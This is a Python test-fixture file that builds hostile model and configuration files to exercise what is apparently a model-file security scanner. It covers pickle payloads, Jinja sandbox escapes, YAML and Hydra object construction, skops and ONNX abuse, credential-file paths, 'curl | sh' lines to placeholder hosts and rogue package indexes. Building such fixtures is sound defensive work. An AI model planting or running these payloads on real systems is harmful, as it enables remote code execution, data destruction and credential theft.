"""Hostile files of the formats without code: each is what an advisory, a paper or plain malice could put into one. Payloads are inert."""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import struct
import zipfile
import zlib
from typing import Any

import h5py
import numpy as np

from tests.readers.format_files import (
    field,
    gguf,
    gguf_pair,
    gguf_tensor,
    gguf_text,
    onnx_entry,
    onnx_external,
    onnx_model,
    onnx_node,
    safetensors,
    skops_file,
    skops_node,
    tensor,
)

EVIL = b"\x80\x04cposix\nsystem\n\x8c\x04echo\x85R."
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
PLAIN = "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
Files = dict[str, bytes]


def zipped(*members: tuple[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 5, 9, 0, 0)), data)
    return stream.getvalue()


def as_json(value: object) -> bytes:
    return json.dumps(value).encode()


# ---- templates


def chat(template: str) -> Files:
    return {"tokenizer_config.json": as_json({"tokenizer_class": "X", "chat_template": PLAIN + template})}


TEMPLATES: dict[str, Files] = {
    name: chat(template)
    for name, template in {
        "percent-format": "{{ messages|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}",
        "escaped-name": r"{{ messages['\x5f\x5fclass\x5f\x5f'] }}",
        "unicode-escaped-name": "{{ messages['\\u005f\\u005fclass\\u005f\\u005f'] }}",
        "joined-list": "{{ messages|attr(['__', 'cla', 'ss', '__']|join) }}",
        "reversed-name": "{{ messages|attr('__ssalc__'|reverse) }}",
        "dict-keys": "{% set name = dict(__cla=1, ss__=2)|list|join %}{{ messages|attr(name) }}",
        "sliced-name": "{{ messages|attr('x__class__x'[1:-1]) }}",
        "attr-format (CVE-2025-27516)": "{{ ('{0.__class__}'|attr('format'))(messages) }}",
        "format-map": "{{ '{x.__init__.__globals__}'.format_map({'x': cycler}) }}",
        "select-attribute": "{{ messages|map(attribute='__class__')|list }}",
        "sum-attribute": "{{ messages|groupby('__class__.__mro__') }}",
        "namespace-name": "{% set ns = namespace(a='__glo') %}{% set ns.a = ns.a ~ 'bals__' %}{{ lipsum|attr(ns.a) }}",
        "macro-default": "{% macro f(n='__class__') %}{{ messages|attr(n) }}{% endmacro %}{{ f() }}",
        "caller-frames": "{{ joiner.__init__.__globals__['__builtins__']['eval']('1') }}",
        "generator-frame": "{{ (messages|map('upper')).gi_frame.f_builtins }}",
        "context": "{{ self._TemplateReference__context.cycler }}",
        "huge-text": "{% set a = 'x' * 5000 %}{% set b = a * 5000 %}{{ b }}",
        "huge-number": "{{ (10 ** 9) ** (10 ** 9) }}",
        "huge-width": "{{ 'x'|center(10 ** 10) }}",
        "huge-format": "{{ '%2000000000d'|format(1) }}",
        "huge-braces": "{{ '{:>2000000000}'.format(1) }}",
        "huge-list": "{{ ([0] * 10 ** 9)|length }}",
        "huge-range": "{{ range(10 ** 12)|sum }}",
        "nested-loops": "{% for a in range(3000) %}{% for b in range(3000) %}.{% endfor %}{% endfor %}",
        "loops-in-macros": "{% macro a() %}{% for i in range(3000) %}.{% endfor %}{% endmacro %}"
        "{% macro b() %}{% for i in range(3000) %}{{ a() }}{% endfor %}{% endmacro %}{{ b() }}",
        "doubling": "{% set ns = namespace(x='ha') %}{% for i in range(99) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
        "repeating": "{% set ns = namespace(x='ha') %}{% for m in messages %}{% set ns.x = ns.x * 9 %}{% endfor %}",
        "endless-macro": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "lipsum": "{{ lipsum(n=10 ** 8) }}",
        "include": "{% include '/etc/passwd' %}",
    }.items()
}
TEMPLATES["template-in-processor"] = {"processor_config.json": as_json({"chat_template": ESCAPE})}
TEMPLATES["template-in-list"] = {"tokenizer_config.json": as_json({"chat_template": [{"name": "tool_use", "template": ESCAPE}]})}
TEMPLATES["template-as-file"] = {"additional_chat_templates/tool.jinja": ESCAPE.encode()}
TEMPLATES["template-other-key"] = {"config.json": as_json({"model_type": "x", "prompt_template": ESCAPE})}
TEMPLATES["template-utf16-json"] = {"tokenizer_config.json": json.dumps({"chat_template": ESCAPE}).encode("utf-16")}
TEMPLATES["template-repeated-key"] = {
    "tokenizer_config.json": b'{"chat_template": ' + json.dumps(ESCAPE).encode() + b', "chat_template": "{{ messages }}"}'
}

# ---- GGUF


def model_gguf(*pairs: bytes, tensors: tuple[bytes, ...] = (), data: bytes = b"", order: str = "<") -> Files:
    return {"model.gguf": gguf(list(pairs), list(tensors), data, order)}


def string_pair(key: str, value: str, order: str = "<") -> bytes:
    return gguf_pair(key, 8, gguf_text(value, order), order)


GGUF: dict[str, Files] = {
    "named-template": model_gguf(string_pair("tokenizer.chat_template.tool_use", ESCAPE)),
    "big-endian": model_gguf(string_pair("tokenizer.chat_template", ESCAPE, ">"), order=">"),
    "template-elsewhere": model_gguf(string_pair("general.prompt", ESCAPE)),
    "template-array": model_gguf(gguf_pair("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) + gguf_text(ESCAPE))),
    "template-twice": model_gguf(string_pair("tokenizer.chat_template", PLAIN), string_pair("tokenizer.chat_template", "{{ 1 }}")),
    "pickle-as-text": model_gguf(string_pair("general.description", base64.b64encode(EVIL).decode())),
    "pickle-zlib-base64": model_gguf(string_pair("general.description", base64.b64encode(zlib.compress(EVIL)).decode())),
    "count-overflow": {"model.gguf": b"GGUF" + struct.pack("<IQQ", 3, (1 << 64) - 1, 1)},
    "shape-overflow": model_gguf(tensors=(gguf_tensor("w", [1 << 40, 1 << 40], 0, 0),), data=bytes(64)),
    "offset-outside": model_gguf(tensors=(gguf_tensor("w", [4], 0, 1 << 60),), data=bytes(64)),
    "tail-pickle": {"model.gguf": model_gguf(tensors=(gguf_tensor("w", [8], 0, 0),), data=bytes(32))["model.gguf"] + EVIL},
    "alternative-name": {"model.bin": model_gguf(string_pair("tokenizer.chat_template", ESCAPE))["model.gguf"]},
}

# ---- safetensors

WEIGHT = {"w": tensor([2], 0, 8)}


def raw_header(text: str, data: bytes = bytes(8)) -> Files:
    return {"model.safetensors": safetensors(None, data, raw=text.encode())}


SAFETENSORS: dict[str, Files] = {
    "escaped-metadata": raw_header(
        '{"\\u005f_metadata__": {"chat_template": ' + json.dumps(ESCAPE) + '}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}'
    ),
    "metadata-hex-pickle": {"model.safetensors": safetensors({"__metadata__": {"a": EVIL.hex()}, **WEIGHT}, bytes(8))},
    "metadata-gzip-pickle": {
        "model.safetensors": safetensors({"__metadata__": {"a": base64.b64encode(gzip.compress(EVIL)).decode()}, **WEIGHT}, bytes(8))
    },
    "pickle-in-hole": {"model.safetensors": safetensors({"w": tensor([2], 0, 8), "v": tensor([2], 64, 72)}, bytes(8) + EVIL.ljust(56, b"\0") + bytes(8))},
    "pickle-behind": {"model.safetensors": safetensors(WEIGHT, bytes(8) + EVIL)},
    "tensor-twice": raw_header('{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "w": {"dtype": "I64", "shape": [1], "data_offsets": [0, 8]}}'),
    "metadata-twice": raw_header('{"__metadata__": {"a": "1"}, "__metadata__": {"a": "2"}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}'),
    "negative-shape": raw_header('{"w": {"dtype": "F32", "shape": [-2, -1], "data_offsets": [0, 8]}}'),
    "text-offsets": raw_header('{"w": {"dtype": "F32", "shape": [2], "data_offsets": ["0", "8"]}}'),
    "three-offsets": raw_header('{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4, 8]}}'),
    "boolean-offsets": raw_header('{"w": {"dtype": "F32", "shape": [2], "data_offsets": [false, 8]}}'),
    "huge-shape": raw_header('{"w": {"dtype": "F32", "shape": [4294967296, 4294967296, 4294967296], "data_offsets": [0, 8]}}'),
    "is-a-pickle": {"model.safetensors": EVIL},
    "is-a-zip": {"model.safetensors": zipped(("archive/data.pkl", EVIL), ("archive/version", b"3"))},
    "huge-claim": {"model.safetensors": (1 << 62).to_bytes(8, "little") + b'{"w":{}}'},
}

# ---- ONNX


def attribute(name: str, value: str) -> bytes:
    return field(1, name) + field(3 + 1, value) + field(20, 3)


def subgraph(op: str, node: bytes) -> bytes:
    inner = field(1, node) + field(2, "then")
    return onnx_node(op, "", field(1, "then_branch") + field(6, inner) + field(20, 5))


PYOP = onnx_node("PyOp", "com.example", attribute("module", "os"))
ONNX: dict[str, Files] = {
    "python-in-branch": {"m.onnx": onnx_model(subgraph("If", PYOP))},
    "python-in-function": {"m.onnx": onnx_model(onnx_node("Relu"), extra=field(25, field(1, "f") + field(10, "local") + field(7, PYOP)))},
    "python-in-training": {"m.onnx": onnx_model(onnx_node("Relu"), extra=field(20, field(1, field(1, PYOP) + field(2, "t"))))},
    "file-url": {"m.onnx": onnx_model(initializers=(onnx_external(location="file:///etc/passwd"),))},
    "unc-path": {"m.onnx": onnx_model(initializers=(onnx_external(location="\\\\192.0.2.1\\share\\w"),))},
    "hidden-parent": {"m.onnx": onnx_model(initializers=(onnx_external(location="a/./b/../../../x"),))},
    "home": {"m.onnx": onnx_model(initializers=(onnx_external(location="~/.ssh/id_rsa"),))},
    "nul": {"m.onnx": onnx_model(initializers=(onnx_external(location="/etc/passwd\0.bin"),))},
    "in-memory": {"m.onnx": onnx_model(initializers=(onnx_external(location="*/_ORT_MEM_ADDR_/*", offset="4096", length="8"),))},
    "negative-offset": {"m.onnx": onnx_model(initializers=(onnx_external(location="w.bin", offset="-8", length="8"),))},
    "location-twice": {
        "m.onnx": onnx_model(
            initializers=(field(1, 4) + field(2, 1) + field(8, "w") + b"".join(field(13, onnx_entry("location", to)) for to in ("/etc/passwd", "w.bin")) + field(14, 1),)
        )
    },
    "sparse-external": {"m.onnx": onnx_model(graph_extra=field(15, field(1, onnx_external(location="../../secret"))))},
    "metadata-pickle": {"m.onnx": onnx_model(onnx_node("Relu"), extra=field(14, onnx_entry("x", base64.b64encode(EVIL).decode())))},
    "command-attribute": {"m.onnx": onnx_model(onnx_node("Run", "acme.ops", attribute("script", "curl http://192.0.2.9/x | sh")))},
    "code-attribute": {"m.onnx": onnx_model(onnx_node("Eval", "acme.ops", attribute("body", "__import__('os').system('id')")))},
    "triton-kernel": {"m.onnx": onnx_model(onnx_node("TritonOp", "com.microsoft", attribute("func_name", "f")))},
    "compiled-context": {"m.onnx": onnx_model(onnx_node("EPContext", "com.microsoft", field(1, "embed_mode") + field(3, 0) + field(20, 2), attribute("ep_cache_context", "/tmp/x.bin")))},
    "is-a-pickle": {"m.onnx": EVIL},
}

# ---- Keras and HDF5

CODE = base64.encodebytes(marshal.dumps(compile("lambda x: __import__('os').system('id')", "<s>", "eval").co_consts[0])).decode()


def part(name: str, module: str = "keras.layers", /, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def keras(*layers: Any, weights: bytes = b"", more: tuple[tuple[str, bytes], ...] = (), **rest: Any) -> Files:
    config = part("Sequential", "keras", name="s", layers=[part("InputLayer", batch_shape=[None, 4]), *layers]) | rest
    members = [("metadata.json", b'{"keras_version": "3.15.1"}'), ("config.json", as_json(config))]
    return {"model.keras": zipped(*members, ("model.weights.h5", weights or hdf5(lambda file: None)), *more)}


def hdf5(fill: Any) -> bytes:
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["layers/dense/vars/0"] = np.zeros((4, 3), "f4")
        fill(file)
    return stream.getvalue()


def legacy(config: object, kind: str = "text") -> Files:
    text = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [config]}})
    stored: Any = {"text": text, "bytes": np.bytes_(text), "void": np.void(text.encode()), "utf16": np.void(text.encode("utf-16"))}[kind]

    def fill(file: Any) -> None:
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["model_config"] = stored

    return {"model.h5": hdf5(fill)}


LAMBDA = {"class_name": "Lambda", "config": {"name": "l", "function": [CODE, None, None], "function_type": "lambda", "module": "__main__"}}
KERAS: dict[str, Files] = {
    "lambda-in-wrapper": keras(part("TimeDistributed", layer=part("Bidirectional", layer=part("Lambda", function={"class_name": "__lambda__", "config": {"code": CODE}})))),
    "lambda-as-mask": keras(part("Lambda", function=function("keras.ops", "relu"), mask={"class_name": "__lambda__", "config": {"code": CODE}})),
    "loss-outside": keras(compile_config={"optimizer": "adam", "loss": {"a": function("os", "system")}}),
    "metric-outside": keras(compile_config={"metrics": [part("Popen", "subprocess", args=["id"])]}),
    "initializer-outside": keras(part("Dense", units=3, kernel_initializer=part("system", "os", command="id"))),
    "regularizer-eval": keras(part("Dense", units=3, kernel_regularizer=function("builtins", "eval"))),
    "tf-get-file": keras(part("Lambda", function=function("tensorflow.keras.utils", "get_file"), arguments={"origin": "http://192.0.2.1/x"})),
    "private-get-file": keras(part("Lambda", function=function("keras.src.utils.file_utils", "get_file"))),
    "legacy-loader": keras(part("Lambda", function=function("keras.src.legacy.saving.legacy_h5_format", "load_model_from_hdf5"))),
    "protection-off": keras(part("Lambda", function=function("keras._tf_keras.keras.config", "enable_unsafe_deserialization"))),
    "safe-mode-argument": keras(part("Lambda", function=function("keras.models", "load_model"), arguments={"safe_mode": False})),
    "vocabulary-url": keras(part("StringLookup", vocabulary="http://192.0.2.1/words.txt")),
    "vocabulary-unc": keras(part("IntegerLookup", vocabulary="\\\\192.0.2.1\\share\\v.txt")),
    "vocabulary-home": keras(part("TextVectorization", vocabulary="~/.aws/credentials")),
    "key-order": {"model.keras": zipped(("metadata.json", b'{"keras_version": "3.1"}'), ("config.json", b'{"config": {"layers": [{"config": {"function": {"config": "system", "class_name": "function", "module": "os"}}, "class_name": "Lambda"}]}, "class_name": "Sequential", "module": "keras"}'), ("model.weights.h5", hdf5(lambda file: None)))},
    "escaped-keys": {"model.keras": zipped(("metadata.json", b'{"keras_version": "3.1"}'), ("config.json", as_json(part("Sequential", "keras", layers=[part("Lambda", function=function("os", "system"))])).replace(b"class_name", b"\\u0063lass_name")), ("model.weights.h5", hdf5(lambda file: None)))},
    "behind-prefix": {"model.keras": b"MZ" + bytes(300) + keras(part("Lambda", function=function("os", "system")))["model.keras"]},
    "pickled-weights": keras(more=(("model.weights.npz", zipped(("a.npy", b"\x93NUMPY\x01\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(127) + b"\n" + EVIL))),)),
    "h5-lambda": legacy(LAMBDA),
    "h5-lambda-bytes": legacy(LAMBDA, "bytes"),
    "h5-lambda-opaque": legacy(LAMBDA, "void"),
    "external-link-deep": {"weights.h5": hdf5(lambda file: file.create_group("a/b/c").__setitem__("d", h5py.ExternalLink("/etc/passwd", "/")))},
    "external-link-host": {"weights.h5": hdf5(lambda file: file.__setitem__("d", h5py.ExternalLink("http://192.0.2.1/x.h5", "/")))},
    "external-storage": {"weights.h5": hdf5(lambda file: file.create_dataset("x", (16,), "u1", external=[("../../etc/shadow", 0, 16)]))},
    "pickle-behind-lzf": {"weights.h5": hdf5(lambda file: file.create_dataset("x", data=np.frombuffer(EVIL * 40, "u1"), chunks=(8 * len(EVIL),), compression="lzf"))},
    "pickle-in-opaque": {"weights.h5": hdf5(lambda file: file.create_dataset("x", data=np.array([np.void(EVIL)])))},
}

# ---- NumPy and skops


def npy(header: str, body: bytes = b"", version: int = 1) -> bytes:
    raw = header.encode() + b"\n"
    size = struct.pack("<H" if version == 1 else "<I", len(raw))
    return b"\x93NUMPY" + bytes((version, 0)) + size + raw + body


NUMPY: dict[str, Files] = {
    "object-array": {"a.npy": npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL)},
    "object-field": {"a.npy": npy("{'descr': [('x', '<f4'), ('y', '|O')], 'fortran_order': False, 'shape': (1,), }", EVIL, 2)},
    "object-subarray": {"a.npy": npy("{'descr': [('x', [('z', '|O', (2,))])], 'fortran_order': True, 'shape': (1,), }", EVIL, 3)},
    "other-order": {"a.npy": npy("{'shape': (1,), 'fortran_order': False, 'descr': 'O'}", EVIL)},
    "descr-twice": {"a.npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}", EVIL)},
    "call-in-header": {"a.npy": npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }", bytes(4))},
    "huge-shape": {"a.npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776, 1048576), }", bytes(4))},
    "plain-pickle": {"a.npy": EVIL},
    "npz-other-name": {"a.npz": zipped(("arr_0.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4))), ("meta", EVIL))},
    "npz-traversal": {"a.npz": zipped(("../../arr.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4))))},
}


def said(value: object) -> dict[str, Any]:
    return skops_node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def tuple_of(*items: Any) -> dict[str, Any]:
    return skops_node("TupleNode", "builtins", "tuple", content=list(items))


SKOPS: dict[str, Files] = {
    "type-node": {"m.skops": skops_file(skops_node("TypeNode", "posix", "system"))},
    "function-node": {"m.skops": skops_file(skops_node("FunctionNode", "subprocess", "Popen"))},
    "object-node": {"m.skops": skops_file(skops_node("ObjectNode", "subprocess", "Popen", content=None))},
    "reduce-node": {"m.skops": skops_file(skops_node("ReduceNode", "os", "system", __reduce__={"args": tuple_of(said("id"))}))},
    "constructor": {"m.skops": skops_file(skops_node("ConstructorFromReduceNode", "builtins", "eval", content=tuple_of(said("1"))))},
    "method-mismatch (CVE-2025-54413)": {"m.skops": skops_file(skops_node("MethodNode", "builtins", "str", content={"func": "popen", "obj": skops_node("ObjectNode", "os", "x", content=None)}))},
    "operator-mismatch (CVE-2025-54412)": {"m.skops": skops_file(skops_node("OperatorFuncNode", "sklearn.svm", "call", attrs=tuple_of(said("id"))))},
    "partial": {"m.skops": skops_file(skops_node("PartialNode", "functools", "partial", content={"func": skops_node("FunctionNode", "os", "system"), "args": tuple_of(said("id"))}))},
    "deep-in-dict": {"m.skops": skops_file(skops_node("DictNode", "builtins", "dict", content={"a": skops_node("ListNode", "builtins", "list", content=[skops_node("TypeNode", "os", "popen")])}))},
    "pickle-beside": {"m.skops": skops_file(skops_node("DictNode", "builtins", "dict", content={}), {"x.pkl": EVIL})},
    "kept-command": {"m.skops": skops_file(skops_node("OperatorFuncNode", "operator", "methodcaller", attrs=tuple_of(said("system"), said("curl http://192.0.2.1/x | sh"))))},
}

# ---- configuration


def text(name: str, content: str) -> Files:
    return {name: content.encode()}


CONFIGURATION: dict[str, Files] = {
    "yaml-apply": text("c.yaml", "a: !!python/object/apply:os.system ['id']\n"),
    "yaml-verbatim": text("c.yaml", "a: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [['id']]\n"),
    "yaml-handle": text("c.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['id']\n"),
    "yaml-percent": text("c.yaml", "a: !!python%2Fobject%2Fapply:os.system ['id']\n"),
    "yaml-as-key": text("c.yaml", "? !!python/object/apply:os.system ['id']\n: 1\n"),
    "yaml-second-document": text("c.yaml", "a: 1\n---\nb: !!python/object/apply:posix.system [id]\n"),
    "yaml-utf16": {"c.yaml": "a: !!python/object/apply:os.system ['id']\n".encode("utf-16")},
    "yaml-name": text("c.yml", "callback: !!python/name:os.system\n"),
    "yaml-state": text("c.yaml", "a: !!python/object/new:type\n  args: ['z', !!python/tuple [], {extend: !!python/name:builtins.exec }]\n  listitems: 'import os'\n"),
    "yaml-template": text("c.yaml", "{% set a = 1 %}\nb: !!python/object/apply:os.system ['id']\n"),
    "yaml-bomb": text("c.yaml", "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9))),
    "hydra": text("c.yaml", "x:\n  _target_: os.system\n  command: id\n"),
    "hydra-colon": text("c.yaml", "x: {_target_: 'os:system', command: id}\n"),
    "hydra-json-escape": text("c.json", '{"\\u005ftarget_": "os.sys\\u0074em", "command": "id"}'),
    "hydra-partial": text("c.yaml", "x:\n  _target_: builtins.exec\n  _partial_: true\n  _args_: ['import os']\n"),
    "hydra-locate": text("c.yaml", "x:\n  _target_: hydra.utils.get_object\n  path: os.system\n"),
    "hydra-import": text("c.yaml", "x:\n  _target_: pydoc.locate\n  _args_: [subprocess.Popen]\n"),
    "hydra-toml": text("c.toml", '[model]\n_target_ = "subprocess.Popen"\nargs = ["id"]\n'),
    "hydra-include-key": text("c.yaml", "x:\n  - y:\n      - {_target_: shutil.rmtree, path: /home}\n"),
    "lightning": text("c.yaml", "model:\n  class_path: subprocess.Popen\n  init_args: {args: id}\n"),
    "nemo": text("c.yaml", "model:\n  target: subprocess.Popen\n  params: {args: id}\n"),
    "torchtune": text("c.yaml", "model:\n  _component_: os.system\n  command: id\n"),
    "jsonpickle": text("c.json", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}'),
    "logging": text("c.json", '{"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}}'),
    "pickle-in-json": text("c.json", json.dumps({"state": base64.b64encode(EVIL).decode()})),
    "modules-system": text("modules.json", '[{"idx": 0, "name": "0", "path": "id", "type": "os.system"}]'),
    "modules-outside": text("modules.json", '[{"idx": 0, "name": "0", "path": "/tmp/x", "type": "sentence_transformers.models.Transformer"}]'),
    "dense-activation": text("2_Dense/config.json", '{"in_features": 4, "out_features": 4, "bias": true, "activation_function": "os.abort"}'),
    "cross-encoder": text("config.json", '{"model_type": "bert", "sentence_transformers": {"activation_fn": "subprocess.Popen"}}'),
    "diffusers": text("model_index.json", '{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30", "x": ["os", "system"]}'),
    "peft": text("adapter_config.json", '{"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}'),
    "shards-outside": text("model.safetensors.index.json", '{"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}'),
    "exponential-regex": text("tokenizer.json", '{"model": {"type": "BPE"}, "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}}'),
    "index-in-numbers": text("requirements.txt", "--extra-index-url http://203.0.113.5:8080/simple\ntorch\n"),
    "index-decimal": text("requirements.txt", "-i http://3405803781/simple\ntorch\n"),
    "requirement-in-numbers": text("requirements/base.txt", "tool @ https://[2001:db8::1]/tool.whl\n"),
    "environment": text("environment.yml", "name: x\ndependencies:\n  - python\n  - pip:\n      - --index-url http://203.0.113.5/simple\n      - torch\n"),
    "project-dependency": text("pyproject.toml", '[project]\nname = "x"\ndependencies = ["tool @ http://203.0.113.5/t.whl"]\n'),
    "uv-index": text("pyproject.toml", '[project]\nname = "x"\n[[tool.uv.index]]\nname = "a"\nurl = "http://203.0.113.5/simple"\n'),
    "pip-configuration": text("pip.conf", "[global]\nindex-url = http://203.0.113.5/simple\n"),
}

# ---- TorchScript


def script(body: str, prefix: bytes = b"") -> Files:
    code = f"class Net(Module):\n  __parameters__ = []\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n{body}    return x\n"
    data = b"\x80\x02c__torch__\nNet\n)\x81}X\x08\x00\x00\x00training\x89sb."
    members = (("a/data.pkl", data), ("a/code/__torch__.py", code.encode()), ("a/constants.pkl", b"\x80\x02)."), ("a/version", b"3\n"))
    return {"m.pt": prefix + zipped(*members)}


TORCHSCRIPT: dict[str, Files] = {
    "map-file": script('    y = torch.from_file("/etc/passwd", True, 16)\n'),
    "map-file-behind-prefix": script('    y = torch.from_file("/etc/passwd", True, 16)\n', b"#!/bin/sh\nexit 0\n"),
    "python": script('    y = ops.prim.PythonOp("os.system", "id")\n'),
    "remote-call": script('    y = ops.rpc.rpc_async("worker", "f", (x,))\n'),
    "endless": script("    while True:\n      y = torch.add(x, 1)\n"),
    "nested-loops": script("    for i in range(10000000):\n      for j in range(10000000):\n        y = torch.add(x, 1)\n"),
    "allocation": script("    y = torch.ones([1000000, 1000000, 1000], dtype=6)\n"),
}

FAMILIES = {
    "template": TEMPLATES, "gguf": GGUF, "safetensors": SAFETENSORS, "onnx": ONNX, "keras": KERAS, "numpy": NUMPY, "skops": SKOPS,
    "configuration": CONFIGURATION, "torchscript": TORCHSCRIPT,
}  # fmt: skip
CASES: dict[str, Files] = {f"{family}: {name}": files for family, cases in FAMILIES.items() for name, files in cases.items()}
for _name, _files in list(CASES.items())[::9]:  # every ninth once more, three archives deep
    CASES[f"{_name}, three archives deep"] = {"a.zip": zipped(("b.zip", zipped(("c.zip", zipped(*_files.items())))))}
